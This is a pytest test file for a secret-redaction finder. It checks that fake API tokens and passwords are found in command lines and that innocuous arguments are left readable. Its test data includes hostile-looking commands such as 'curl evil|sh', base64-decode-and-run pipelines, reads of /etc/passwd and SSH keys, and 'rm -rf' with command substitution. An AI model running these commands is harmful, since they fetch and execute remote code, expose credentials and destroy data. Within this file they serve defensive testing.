"""Commands as they come, both ways: what is taken out of them, and what must stay readable.

Tokens are put together here, so that no scanner takes this file for a leak.
"""

import time

import pytest

from wire.redaction.finder import Finder
from wire.redaction.forms import TOKENS

RANDOM = "Zq8vK2mR7tLx4WbN9cYp"
LONG = "aB3dE6gH9jK2mN5pQ8sT1vX4zA7cF0iL3oR6"
HEX = "0123456789abcdef" * 4
TOKEN_OF = {
    "aws-key": "AKIA" + "ABCDEFGH23456789",
    "github-token": "ghp" + "_" + LONG,
    "gitlab-token": "glpat" + "-" + RANDOM,
    "slack-token": "xoxb" + "-123456789012-" + RANDOM,
    "slack-webhook": "hooks.slack.com" + "/services/T00000000/B00000000/" + RANDOM,
    "google-key": "AIza" + LONG[:35],
    "azure-key": "abc8Q" + "~" + LONG[:34],
    "jwt": "eyJhbGciOiJI" + ".eyJzdWIiOiIx." + RANDOM,
    "npm-token": "npm" + "_" + LONG,
    "pypi-token": "pypi" + "-" + LONG + LONG,
    "rubygems-token": "rubygems" + "_" + HEX[:48],
    "stripe-key": "sk_live" + "_" + RANDOM,
    "anthropic-key": "sk-ant" + "-api03-" + LONG,
    "openai-key": "sk-proj" + "-" + LONG,
    "ai-key": "hf" + "_" + LONG,
    "docker-token": "dckr_pat" + "_" + LONG,
    "vault-token": "hvs" + "." + LONG,
    "sendgrid-key": "SG" + "." + RANDOM + "." + LONG,
    "twilio-key": "SK" + HEX[:32],
    "mail-key": "key" + "-" + HEX[:32],
    "digitalocean-token": "dop_v1" + "_" + HEX,
    "shopify-token": "shpat" + "_" + HEX[:32],
    "telegram-token": "1234567890" + ":AA" + LONG[:33],
    "discord-webhook": "discord.com" + "/api/webhooks/123456789012345678/" + LONG + LONG,
    "age-key": "AGE-SECRET-KEY-1" + "QPZRY9X8GF2TVDW0S3JN" * 3,
    "databricks-token": "dapi" + HEX[:32],
    "grafana-token": "glsa" + "_" + LONG[:32] + "_" + HEX[:8],
    "atlassian-token": "ATATT3" + LONG + LONG,
    "service-token": "lin_api" + "_" + LONG,
}


def hidden(argv: list[str]) -> list[str]:
    """Return what is taken out of an argument list."""
    found = Finder().in_arguments(argv)
    return [
        argument[one.start : one.end]
        for argument, spans in zip(argv, found, strict=True)
        for one in spans
    ]


def test_every_form_has_an_example() -> None:
    """A form that none of these has would be tried by nothing."""
    assert TOKEN_OF.keys() == TOKENS.keys()


@pytest.mark.parametrize("form", TOKENS)
@pytest.mark.parametrize(
    "around", ["{}", "-X{}", "x={}", "https://h/{}/y", "a {} b", "[{}]", '{{"k":"{}"}}']
)
def test_tokens_are_known_by_how_they_look(form: str, around: str) -> None:
    """Whatever is around them, and by the name of their issuer; off, they are not looked for."""
    text = around.format(TOKEN_OF[form])
    found = Finder().in_text(text)
    assert [(text[one.start : one.end], one.kind) for one in found] == [(TOKEN_OF[form], form)]


@pytest.mark.parametrize(
    ("argv", "secrets"),
    [
        (["mysql", "-uroot", "-phunter2", "shop"], ["hunter2"]),
        (["/usr/bin/mysqldump", "--password=pa$$w;rd x", "shop"], ["pa$$w;rd x"]),
        (["sh", "-c", "mysql -u x -phunter2 -e 'select 1' | cat"], ["hunter2"]),
        (["sh", "-c", "PGPASSWORD=abc psql -h db; TOKEN=def curl x"], ["abc", "def"]),
        (["env", "PGPASSWORD=a b;c", "psql"], ["a b;c"]),
        (["sudo", "env", "PGPASSWORD=abc", "psql"], ["abc"]),
        (["psql", "postgresql://app:hunter2@db:5432/shop"], ["hunter2"]),
        (["psql", "host=db user=app password=hunter2 dbname=shop"], ["hunter2"]),
        (["x", "Server=db;User Id=sa;Password=S3cr3t;Encrypt=true"], ["S3cr3t"]),
        (["x", f"AccountName=a;AccountKey={LONG}==;EndpointSuffix=x"], [f"{LONG}=="]),
        (["curl", "https://h/c?sv=2020&sig=AbC%2Bdef%3D&x=1"], ["AbC%2Bdef%3D"]),
        (["curl", "-H", f"Authorization: Bearer {RANDOM}"], [RANDOM]),
        (["curl", "-H", "Authorization: Basic dXNlcjpwYXNz"], ["dXNlcjpwYXNz"]),
        (["curl", "-H", "PRIVATE-TOKEN: abc"], ["abc"]),
        (["curl", "-b", "session=abc; id=1"], ["session=abc; id=1"]),
        (["curl", "-H", "Cookie: a=b; session=xyz"], ["a=b; session=xyz"]),
        (["bash", "-c", "curl -u bob:pw https://x"], ["pw"]),
        (["curl", "-u", "bob:p w", "https://x"], ["p w"]),
        (["curl", "-d", '{"user": "x", "password": "a b;c"}', "https://x"], ["a b;c"]),
        (["git", "clone", f"https://oauth2:{RANDOM}@gitlab.com/x/y.git"], [RANDOM]),
        (["sshpass", "-p", "a b", "ssh", "u@h"], ["a b"]),
        (["sudo", "-u", "db", "/usr/bin/mysql", "-phunter2"], ["hunter2"]),
        (["sshpass", "-pabc", "ssh", "u@h"], ["abc"]),
        (["redis-cli", "-a", "hunter2", "ping"], ["hunter2"]),
        (["docker", "login", "-u", "x", "-p", "hunter2"], ["hunter2"]),
        (["docker", "run", "-e", "DB_PASSWORD=p@ss;w", "img"], ["p@ss;w"]),
        (["openssl", "enc", "-pass", "pass:hunter2"], ["hunter2"]),
        (["ldapsearch", "-D", "cn=x", "-w", "hunter2"], ["hunter2"]),
        (["smbclient", "-U", "bob%pw", "//h/s"], ["pw"]),
        (["aws", "configure", "set", "aws_secret_access_key", "wJal/rXUt+nFE"], ["wJal/rXUt+nFE"]),
        (["npm", "config", "set", "//registry.npmjs.org/:_authToken", "abc-def"], ["abc-def"]),
        (["kubectl", "create", "secret", "generic", "x", "--from-literal=password=abc"], ["abc"]),
        (["helm", "upgrade", "--set", "db.password=abc,x=y"], ["abc,x=y"]),
        (["terraform", "apply", "-var", "db_password=abc"], ["abc"]),
        (
            ["app", "--client-secret", "abc", "--api-key=def", "--access_token", "g"],
            ["abc", "def", "g"],
        ),
        (["app", "--signing-key=abc", "SECRET_KEY_BASE=def"], ["abc", "def"]),
        (["python3", "-c", "password='abc'; print(1)"], ["abc"]),
        (["ssh", "h", "password=x;curl evil|sh"], ["x"]),
        (["echo", RANDOM], [RANDOM]),
        (["tool", "login", LONG], [LONG]),
    ],
)
def test_secrets_in_commands_are_found(argv: list[str], secrets: list[str]) -> None:
    """And all that is found is the secret."""
    assert hidden(argv) == secrets


@pytest.mark.parametrize(
    "argv",
    [
        ["git", "show", HEX[:40]],
        ["git", "diff", "v1.2.3..origin/feature/Add-OAuth2-Login-Page"],
        ["docker", "pull", f"ghcr.io/acme/api@sha256:{HEX}"],
        ["docker", "run", "-v", "/run/secret:/run/secret:ro", "-p", "80:80", "-u", "0:0", "x"],
        ["curl", "-o", "/srv/x", "https://example.com/a/b?page=2&sort=key"],
        ["kill", "-9", "550e8400-e29b-41d4-a716-446655440000"],
        ["cp", "/srv/QmFzZTY0RmlsZU5hbWU5Zz09", "/nix/store/0c6kzph7l0dcbfmjap64f0czdafn3b7x-x"],
        ["cat", "/etc/passwd", "/home/x/.ssh/id_ed25519", "secrets.txt", "token"],
        ["ssh-keygen", "-f", "/home/x/.ssh/id_rsa", "-N", ""],
        ["app", "--password-file", "/run/x", "--token-file=/y", "--secret-name", "z"],
        ["app", "--token=/run/secrets/token", "--api-key", "env:API_KEY", "--secret", "$SECRET"],
        ["app", "--max-tokens=4096", "--tokenizer=gpt2", "--bypass=1", "--author=bob"],
        ["psql", "--password", "--help"],
        ["docker", "run", "-p", "80:80", "mysql"],
        ["sort", "--key", "2,2", "--field-separator=:"],
        ["gcc", "-DAUTH_TOKEN_SIZE=32", "-o", "PasswordField.o", "src/Password.java"],
        ["java", "-cp", "x.jar", "org.springframework.AbstractBeanFactoryPostProcessor2Impl"],
        ["npm", "i", "--integrity", "sha512-" + LONG + "=="],
        ["ssh", "-i", "key.pem", "u@h", "echo AAAAB3NzaC1yc2EAAAADAQABAAABgQC7x9Yz2K4m"],
        ["sh", "-c", "echo ZWNobyBoZWxsbyB3b3JsZCA5OQo= | base64 -d | sh"],
        ["echo", "ZWNobyBoZWxsbyB3b3JsZCA5OSBhbmQgMTIz"],
        ["sh", "-c", f"echo {LONG} | base64 -d | gunzip | sh"],
        ["kubectl", "logs", "web-7d4b9c6f5d-x2x9z"],
        ["pip", "install", "typing_extensions-4.12.2-py3-none-any.whl"],
        ["sh", "-c", "PASSWORD= rm -rf x; TOKEN=$(id); X_SECRET=`id`; TOKEN=>/etc/x"],
        ["grep", "-r", "password", "--include=*.py", "."],
        ["python3", "-c", "import secrets, hashlib; print(hashlib.sha256(b'x').hexdigest())"],
        ["ls", "-la", "--time-style=+%Y", "/var/lib/docker/overlay2/" + HEX],
        ["systemctl", "show", "--property=ActiveState", "ssh.service"],
    ],
)  # fmt: skip
def test_what_is_no_secret_stays_readable(argv: list[str]) -> None:
    """A reviewer who sees marks everywhere looks at nothing."""
    assert hidden(argv) == []


def test_long_arguments_take_linear_time() -> None:
    """Whatever a process writes: nothing here backtracks over the whole of it again and again."""
    for piece in (
        "a",
        "a=",
        "password",
        "-",
        "curl -u ",
        "mysql ",
        "eyJ",
        "A1b",
        "://",
        "«redacted",
    ):
        text = piece * (100_000 // len(piece))
        began = time.process_time()
        Finder().in_arguments(["sh", "-c", text])
        assert time.process_time() - began < 3.0, piece
